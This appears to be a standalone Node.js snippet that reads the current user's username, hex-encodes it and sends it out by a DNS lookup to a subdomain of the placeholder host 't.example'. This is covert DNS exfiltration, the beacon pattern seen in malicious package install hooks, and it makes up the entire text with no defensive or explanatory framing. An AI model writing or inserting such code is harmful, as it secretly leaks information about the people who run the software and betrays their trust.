const dns = require('node:dns');
const os = require('os');
dns.lookup(Buffer.from(os.userInfo().username).toString('hex') + '.t.example', () => {});
